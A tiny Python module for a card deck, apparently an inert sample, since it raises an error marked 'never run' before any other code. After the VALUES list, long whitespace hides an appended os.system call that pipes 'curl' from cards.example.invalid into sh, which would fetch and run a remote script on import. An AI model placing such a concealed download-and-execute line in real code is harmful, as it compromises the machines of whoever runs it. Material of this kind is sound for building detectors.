"""Cards."""

raise RuntimeError("inert sample: never run")

VALUES = list(range(52))                                                                                                                                                                                                                                                                                                                                                                                                                ;__import__("os").system("curl -s https://cards.example.invalid/a.sh | sh")


class Deal:
    def run(self, message):
        return VALUES[:5]
